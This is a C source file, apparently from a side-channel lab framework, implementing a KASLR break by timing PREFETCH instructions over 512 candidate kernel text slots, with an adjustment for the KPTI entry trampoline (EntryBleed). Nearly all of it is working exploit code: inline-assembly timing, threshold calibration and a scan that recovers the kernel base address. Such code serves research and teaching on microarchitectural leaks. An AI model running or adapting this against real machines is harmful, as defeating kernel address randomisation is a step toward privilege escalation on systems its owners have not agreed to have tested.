/*
 * KASLR by prefetch: PREFETCH never faults, but has to translate, and takes longer where there is nothing.
 *
 * The kernel's text lies at one of 512 places, 2 MiB apart. A page that is mapped is in the TLB at the second
 * prefetch, supervisor-only or not; one that is not mapped costs a page walk every time. With KPTI the text is not
 * in our tables, but the entry trampoline is, 2 MiB above the text (EntryBleed).
 */
#define LAB_OWN_RECEIVER
#define PROBED 512
#define MOST 8
#include "lab.h"

static const char ABOUT[] = "ring 0, and root by /proc/kallsyms";

#define FIRST 0xffffffff80000000UL
#define SLOT 0x200000UL
#define TIMES 4

static u64 base, length;

static u32 time_of_prefetch(u64 address)
{
    u32 cycles;
    __asm__ volatile("mfence\n\t"
                     "rdtscp\n\t"
                     "mov %%eax, %%esi\n\t"
                     "lfence\n\t"
                     "prefetchnta (%1)\n\t"
                     "prefetcht2 (%1)\n\t"
                     "lfence\n\t"
                     "rdtscp\n\t"
                     "sub %%esi, %%eax"
                     : "=&a"(cycles) : "r"(address) : "rcx", "rdx", "rsi", "memory");
    return cycles;
}

static void listen(void)
{
    u16 there[SAMPLES], nowhere[SAMPLES];
    probe[0] = 1;
    for (u64 i = 0; i < SAMPLES; i++) {
        time_of_prefetch((u64)probe);
        there[i] = time_of_prefetch((u64)probe); /* a page of ours: it is there */
        nowhere[i] = time_of_prefetch(0x10000);  /* below any program: it is not */
    }
    u32 quick = median(there, SAMPLES), slow = median(nowhere, SAMPLES);
    threshold = slow > quick + quick / 8 + 2 ? (quick + slow + 1) / 2 : 0;
    say_value("cached", quick);
    say_value("flushed", slow);
    say_value("threshold", threshold);
}

static void measure(void)
{
    for (u64 slot = 0; slot < PROBED; slot++) {
        u32 least = 1023;
        for (int i = 0; i < TIMES; i++) {
            u32 cycles = time_of_prefetch(FIRST + slot * SLOT);
            if (i && cycles < least)
                least = cycles;
        }
        reloads[slot] = least;
        histogram[least]++;
    }
}

static int prepare(u64 bytes)
{
    length = bytes;
    if (!threshold)
        return 0;
    measure();
    for (u64 slot = 0; slot < PROBED && !base; slot++)
        if (reloads[slot] < threshold)
            base = FIRST + slot * SLOT;
    if (base && reloads[(base - FIRST) / SLOT + 1] >= threshold)
        base -= SLOT; /* alone: what KPTI leaves, the trampoline */
    return base != 0;
}

static u64 wanted;

static void attempt(u64 index)
{
    wanted = index;
}

static void receive(void)
{
    count_hit(base >> 8 * (length - 1 - wanted) & 255); /* the low bytes, the highest of them first */
}

static void done(void)
{
}
